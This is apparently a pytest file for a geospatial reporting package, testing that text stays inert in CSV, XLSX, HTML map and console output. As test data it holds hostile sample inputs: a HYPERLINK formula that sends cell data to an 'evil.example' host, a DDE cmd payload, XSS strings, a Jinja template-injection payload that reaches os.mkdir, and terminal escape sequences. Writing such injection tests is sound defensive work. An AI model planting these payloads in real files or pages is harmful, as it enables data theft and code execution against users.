"""Text of the data stays text in every output: no formula in a sheet, no markup or script in a
map, no terminal control in the console (issue 12, output side).

Each test starts from the hostile input that went wrong before: a project named
``=HYPERLINK(...)`` became a live link in XLSX and verbatim in CSV; ``<!--<script>`` in a
value put the map's HTML parser into script-escaped state (the rest of the page lost); a
layer name ``<img src=x onerror=...>`` given on the command line ran in the layer control.
"""
from __future__ import annotations

import csv
import json
import re
import zipfile

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from click.testing import CliRunner

from hn_geo.core.results import AnalysisResult, Msg
from hn_geo.core.settings import STORAGE_CRS
from hn_geo.render import escape, maps, tables
from hn_geo.render.maps.layers import LayerSpec
from hn_geo.render.workbook import write_report

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "=1+1", "'=quoted already"]
HARMLESS = ["-", "+", "-5", "-3.5", "+1,234.5", "1e5", "-12%", "海宁 – 盐官", "'plain", "it's"]


def _xml_formulas(path):
    with zipfile.ZipFile(path) as z:
        return sum(len(re.findall(rb"<f[ >]", z.read(n))) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_formula_like_text_and_its_csv_form_round_trip():
    for text in FORMULAS:
        assert escape.formula_like(text) or text.startswith("'"), text
        cell = escape.csv_text(text)
        assert cell.startswith("'") and escape.csv_untext(cell) == text
    for text in HARMLESS:
        assert not escape.formula_like(text), text
        assert escape.csv_untext(escape.csv_text(text)) == text
    assert escape.csv_text("-5") == "-5" and escape.csv_text(-5.0) == -5.0 and escape.csv_text(None) is None


def test_xlsx_cells_of_formula_text_are_text(tmp_path):
    frame = pd.DataFrame({"=name": FORMULAS + HARMLESS,
                          "value": [-1.5 * k for k in range(len(FORMULAS) + len(HARMLESS))]})
    path = tables.write_xlsx({"t": frame}, tmp_path / "t.xlsx")
    assert _xml_formulas(path) == 0
    ws = openpyxl.load_workbook(path)["t"]
    assert ws["A1"].value == "=name" and ws["A1"].data_type == "s" and ws["A1"].quotePrefix
    got = [ws.cell(row=r, column=1) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in got] == [escape.xlsx_text(t) for t in FORMULAS + HARMLESS]
    assert got[5].value == "\n=1+1"  # a line end as XML reads it
    for cell, text in zip(got, FORMULAS + HARMLESS):
        assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == escape.formula_like(escape.xlsx_text(text)), text
    nums = [ws.cell(row=r, column=2).value for r in range(2, ws.max_row + 1)]
    assert all(isinstance(v, (int, float)) for v in nums) and nums[1] == -1.5


def test_xlsx_control_characters_do_not_break_the_workbook(tmp_path):
    """openpyxl refused a name holding ESC or NUL (IllegalCharacterError: the step failed)."""
    frame = pd.DataFrame({"name": ["a\x1b[2Jb", "nul\x00here", "tab\tand\nnewline"]})
    path = tables.write_xlsx({"t": frame}, tmp_path / "c.xlsx")
    ws = openpyxl.load_workbook(path)["t"]
    assert [ws.cell(row=r, column=1).value for r in (2, 3, 4)] == ["a\ufffd[2Jb", "nul\ufffdhere", "tab\tand\nnewline"]


def test_csv_text_neutralised_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"=name": FORMULAS + HARMLESS, "n": range(len(FORMULAS) + len(HARMLESS))})
    frame["v"] = -2.5
    path = tables.write_csv(frame, tmp_path / "t.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["'=name", "n", "v"]
    for row, text in zip(rows[1:], FORMULAS + HARMLESS):
        cell = row[0]
        assert not escape.formula_like(cell), cell  # nothing a spreadsheet would evaluate
        assert escape.csv_untext(cell) == text
        assert row[2] == "-2.5"  # a negative number is a number, not neutralised
    assert [r[0] for r in rows[1:]][-len(HARMLESS):] == HARMLESS  # harmless text as it is


def test_report_workbook_keeps_names_and_notes_as_text(tmp_path):
    """A section name gave 126 formula cells in the report workbook."""
    projects = pd.DataFrame({"project_id": ["=1+2", "P2"], "name": FORMULAS[:2], "status": ["pass", "fail"]})
    res = AnalysisResult("zoning", tables={"t_projects": projects}, codes={"status": "status"},
                         notes=[Msg("water.t_row", n=1)])
    written = write_report([res], tmp_path / "r.xlsx", lang="en", csv_dir=tmp_path / "csv")
    assert _xml_formulas(written[0]) == 0
    wb = openpyxl.load_workbook(written[0])
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert FORMULAS[0] in texts and "=1+2" in texts
    for p in written[1:]:
        body = p.read_text(encoding="utf-8-sig")
        assert "\n=" not in body and ",=" not in body and "\n+1+cmd" not in body


def test_json_in_html_escapes_every_markup_character():
    value = {"a": "<!--<script>", "b": "</script><b>&amp;</b>", "c": "x\u2028y\u2029z", "d": "海宁"}
    text = escape.script_json(value)
    assert not set(text) & set("<>&\u2028\u2029") and "海宁" in text
    assert json.loads(text) == value
    assert escape.json_for_html(text) == text  # idempotent


def test_terminal_text_shows_control_characters():
    assert escape.terminal_text("a\x1b]0;pwned\x07b\rc\x9bd") == "a\\x1b]0;pwned\\x07b\\x0dc\\x9bd"
    assert escape.terminal_text("line\n\tnext 海宁") == "line\n\tnext 海宁"


# ----------------------------------------------------------------------------- maps
EVIL_NAME = "<img src=x onerror=window.pwned=1>"


def _points_layer(names):
    n = len(names)
    return gpd.GeoDataFrame({"name": names, "kind": ["a"] * n},
                            geometry=list(shapely.points([120.6 + 0.01 * k for k in range(n)], [30.5] * n)),
                            crs=STORAGE_CRS)


def _data_blocks(page):
    return re.findall(r'<script type="application/json" id="[^"]+">(.*?)</script>', page, re.S)


def test_map_page_json_holds_no_markup_character(tmp_path):
    names = ["<!--<script>", "</script><script>window.pwned=1</script>", "a & b > c", "x\u2028y"]
    m = maps.make_map([LayerSpec("evil", _points_layer(names), title=EVIL_NAME)], title=EVIL_NAME)
    page = maps.map_html(m)
    blocks = _data_blocks(page)
    assert len(blocks) == 1 and not set(blocks[0]) & set("<>&\u2028\u2029")
    data = json.loads(blocks[0])
    shown = {v for c in data["cols"] for v in (c.get("v") or c.get("d") or []) if v}
    assert set(names) <= shown
    assert "<!--" not in page.split("<body>", 1)[-1].replace("<!-- ", "")  # no comment opener from data
    assert EVIL_NAME not in page  # neither as the title nor as the layer-control name
    assert escape.json_for_html(json.dumps(escape.html_text(EVIL_NAME)))[1:-1] in page  # as HTML text


@pytest.mark.slow
def test_cli_layer_name_is_text(tmp_path):
    from hn_geo.cli import main

    src = tmp_path / "f.geojson"
    from hn_geo.render.writers import write_geojson

    write_geojson(_points_layer(["p1", "p2"]), src)
    out = tmp_path / "m.html"
    r = CliRunner().invoke(main, ["map", "--layers", "boundary", "--result", f"{EVIL_NAME}:{src}",
                                  "--out", str(out), "--lang", "en"])
    assert r.exit_code == 0, r.output
    page = out.read_text(encoding="utf-8")
    assert EVIL_NAME not in page and "onerror=window.pwned=1" in page  # there, but as text


@pytest.mark.parametrize("kind", ["points", "graduated"])
def test_map_layer_titles_escaped_in_legends(kind):
    g = _points_layer(["a", "b"])
    g["load_t"] = [1.0, 2.0]
    spec = LayerSpec("evil", g, title=EVIL_NAME, graduated=kind == "graduated", color_by="load_t")
    page = maps.map_html(maps.make_map([spec]))
    assert EVIL_NAME not in page


def test_text_is_never_a_template(tmp_path, monkeypatch):
    """Folium/branca compile each element's script output again as a Jinja template: a town
    name ``{{ ... }}`` ran as Python while the map was built (it made folders here)."""
    monkeypatch.chdir(tmp_path)

    def payload(tag):
        return "{{ cycler.__init__.__globals__.os.mkdir(dict(hn_" + tag + "=1)|first) }}"

    g = _points_layer([payload("name"), "{{ 7*7 }}", "{% if 1 %}x{% endif %}", "{# c #}"])
    g["note"] = [payload("value"), "b", "c", "d"]
    m = maps.make_map([LayerSpec("towns", g, title=payload("layer"))], title=payload("title"))
    page = maps.map_html(m)
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # nothing ran
    data = json.loads(_data_blocks(page)[0])
    shown = {v for c in data["cols"] for v in (c.get("v") or c.get("d") or []) if v}
    assert {payload("name"), "{{ 7*7 }}", "{% if 1 %}x{% endif %}", "{# c #}", payload("value")} <= shown
    assert "{{" not in page.split("<body>", 1)[1] and "{%" not in page.split("<body>", 1)[1]


def test_console_and_markdown_show_text_as_text():
    import click

    from hn_geo.cli.options import handle_errors
    from hn_geo.core.errors import HnGeoError, HnGeoWarning
    from hn_geo.render.console import table_text

    evil = "name\x1b]0;owned\x07\x1b[2J"

    @click.command()
    @handle_errors
    def cmd():
        import warnings

        warnings.warn(HnGeoWarning(f"a warning about {evil}"), stacklevel=1)
        raise HnGeoError(f"an error about {evil}")

    r = CliRunner().invoke(cmd, [])
    assert r.exit_code == 1 and "\x1b" not in r.output and "\x07" not in r.output
    assert "name\\x1b]0;owned\\x07\\x1b[2J" in r.output
    text = table_text(pd.DataFrame({"name": [evil]}), lang="en")
    assert "\x1b" not in text and "\\x1b[2J" in text
    md = escape.markdown_text("<img src=x onerror=alert(1)> [x](javascript:alert(1))\n# head")
    assert md.startswith("\\<img") and "\\]\\(" in md and "\n" not in md  # markup escaped, one line


def test_infinite_numbers_are_empty_cells_with_a_counted_warning(tmp_path):
    """``inf`` was written to CSV tables as text (``inf``) while the workbook left the cell
    empty without a word; GeoJSON warned in English only."""
    import warnings

    import numpy as np

    from hn_geo.core.errors import HnGeoWarning
    from hn_geo.render import writers

    frame = pd.DataFrame({"ratio": [1.5, np.inf, -np.inf, np.nan], "mixed": ["x", np.inf, "y", 2.0]})
    g = gpd.GeoDataFrame(frame[["ratio"]], geometry=list(shapely.points([120.6] * 4, [30.5] * 4)), crs=STORAGE_CRS)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always", HnGeoWarning)
        path = tables.write_csv(frame, tmp_path / "t.csv")
        book = tables.write_xlsx({"t": frame}, tmp_path / "t.xlsx")
        gj = writers.write_geojson(g, tmp_path / "t.geojson")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:]] == ["1.5", "", "", ""] and [r[1] for r in rows[1:]] == ["x", "", "y", "2"]
    ws = openpyxl.load_workbook(book)["t"]
    assert [ws.cell(row=r, column=1).value for r in range(2, 6)] == [1.5, None, None, None]
    assert [f["properties"]["ratio"] for f in json.loads(gj.read_text(encoding="utf-8"))["features"]] == [
        1.5, None, None, None]
    got = [(w.message.path.rsplit("/", 1)[-1], w.message.params["column"], w.message.params["n"])
           for w in caught if isinstance(w.message, HnGeoWarning) and w.message.code == "render.infinite_blank"]
    assert got == [("t.csv", "ratio", 2), ("t.csv", "mixed", 1), ("t.xlsx", "ratio", 2), ("t.xlsx", "mixed", 1),
                   ("t.geojson", "ratio", 2)]
    assert "2" in caught[0].message.render("zh") and "ratio" in caught[0].message.render("en")
